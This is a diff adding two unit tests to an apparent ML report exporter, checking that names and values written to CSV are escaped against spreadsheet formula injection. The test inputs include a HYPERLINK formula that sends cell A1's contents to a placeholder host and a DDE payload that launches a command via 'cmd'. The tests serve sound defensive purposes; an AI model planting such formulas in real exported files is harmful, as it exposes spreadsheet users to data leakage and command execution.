@@ -526,6 +526,25 @@ class TablesTest(Case):
         self.assertIn(f"| {name} | best on test (biased) | 90.00%", text)
         self.assertNotIn("\x1b", text)
 
+    def test_a_spreadsheet_computes_no_name(self):
+        formula = '=HYPERLINK("http://a.b?"&A1,"x")'
+        for name in (formula, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "\uff1d1", "=", "-", "-1_0"):
+            self.assertEqual(report_csv.plain(name), "'" + name)
+        for value in ("resnet18", "a=b", "", "50% of conv", "0.7", "-0.7", "+1e-05", "-.5", -0.5, None, True):
+            self.assertEqual(report_csv.plain(value), value)
+
+    def test_names_are_escaped_in_csv(self):
+        self.original(0.9, 1, network="=1+1", dataset="@d")
+        self.original(0.9, 1, network="resnet8", weights="=cmd|' /C calc'!A0")
+        rows_of = report_tables.make_rows(self.collect().completed)
+        records = list(csv.DictReader(io.StringIO(report_csv.comma_separated(rows_of))))
+        self.assertEqual({(r["dataset"], r["network"], r["row"]) for r in records if r["network"] != "resnet8"},
+                         {("'@d", "'=1+1", "'=1+1")})
+        for record in records:
+            for value in record.values():
+                self.assertFalse(value.startswith(("=", "+", "@")), record)
+            self.assertEqual(record["threshold_or_choice"], "")
+
     def test_the_papers_tables(self):
         for table in (report_paper.ACCURACY, report_paper.MINUTES):
             for dataset in table.values():
